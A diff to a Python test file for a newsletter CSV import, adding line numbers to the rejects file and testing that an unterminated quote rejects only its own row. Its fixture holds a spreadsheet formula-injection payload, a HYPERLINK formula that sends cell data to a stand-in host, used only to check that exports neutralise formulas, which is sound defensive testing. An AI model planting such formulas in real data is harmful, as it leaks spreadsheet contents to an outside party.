@@ -55,20 +55,22 @@ def test_a_mixed_file_imports_the_good_rows_and_rejects_the_rest(
 def test_the_rejects_file_holds_each_original_row_and_its_reason(
     any_store: Store, tmp_path: Path
 ) -> None:
-    """The rejects CSV has the input's header plus `reason`, and every rejected row verbatim."""
+    """The rejects CSV has the input's header plus `line` and `reason`, and every rejected row
+    verbatim."""
     report = import_csv(any_store, fixture("basic.csv", tmp_path), now=NOW)
     assert report.rejects_path is not None
     with report.rejects_path.open(encoding="utf-8", newline="") as file:
         rows = list(csv.reader(file))
-    assert rows[0] == ["Email", "Name", "Company", "reason"]
-    assert rows[1] == ["", "No Address", "Nowhere", "missing email"]
-    assert rows[2][:3] == ["not-an-address", "Broken", "ACME"]
-    assert rows[2][3].startswith("not a valid email address: 'not-an-address'")
+    assert rows[0] == ["Email", "Name", "Company", "line", "reason"]
+    assert rows[1] == ["", "No Address", "Nowhere", "3", "missing email"]
+    assert rows[2][:4] == ["not-an-address", "Broken", "ACME", "4"]
+    assert rows[2][4].startswith("not a valid email address: 'not-an-address'")
     assert rows[3] == [
         "alan@example.net",
         "Alan Turing",
         "Bletchley",
         "extra field",
+        "8",
         "4 fields where the header has 3",
     ]
     assert report.summary.endswith(f"rejects in {report.rejects_path}")
@@ -294,3 +296,47 @@ def test_the_import_command_prints_one_summary_line(
     assert rejects.exists()
     with migrated(env["NEWSLETTER_DATABASE_URL"]) as store:
         assert {s.source for s in subs.list_subscribers(store)} == {"conf"}
+
+
+def test_an_unterminated_quote_costs_only_its_own_line(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """`newsletter subscribers import` of a file where line 3 opens a quote it never closes:
+    line 3 is rejected with its number, every row after it is imported; a quoted name with a
+    line break (a real multi-line field) stays one row; formula cells in the rejects file are
+    neutralised as the export does."""
+    monkeypatch.chdir(tmp_path)
+    env = {"NEWSLETTER_DATABASE_URL": f"sqlite:///{tmp_path / 'n.db'}"}
+    path = tmp_path / "people.csv"
+    path.write_text(
+        "email,name\n"
+        "ada@example.org,Ada\n"
+        '"bob@example.org,Bob\n'
+        "carl@example.org,Carl\n"
+        'dora@example.org,"Dora ""the"" Explorer"\n'
+        'eve@example.org,"Eve\nMarie"\n'
+        '=HYPERLINK("https://evil.example?"&A1;"Fix me"),-2+3\n'
+        "fay@example.org,Fay\n",
+        encoding="utf-8",
+    )
+    rejects = tmp_path / "rejects.csv"
+    args = ["subscribers", "import", str(path), "--rejects", str(rejects)]
+    result = CliRunner().invoke(cli, args, env=env)
+    assert result.exit_code == 0, result.output
+    assert result.output.startswith("imported 5, updated 0, unchanged 0, rejected 2;")
+    with migrated(env["NEWSLETTER_DATABASE_URL"]) as store:
+        names = {s.email: s.name for s in subs.list_subscribers(store)}
+    assert names == {
+        "ada@example.org": "Ada",
+        "carl@example.org": "Carl",
+        "dora@example.org": 'Dora "the" Explorer',
+        "eve@example.org": "Eve Marie",
+        "fay@example.org": "Fay",
+    }
+    with rejects.open(encoding="utf-8", newline="") as file:
+        header, quote, formula = list(csv.reader(file))
+    assert header == ["email", "name", "line", "reason"]
+    assert quote[:3] == ["bob@example.org,Bob", "", "3"]
+    assert quote[3] == "a quote opened here is never closed; the lines after it are read again"
+    assert formula[:3] == ['\'=HYPERLINK("https://evil.example?"&A1;"Fix me")', "'-2+3", "8"]
+    assert formula[3].startswith("not a valid email address: ")
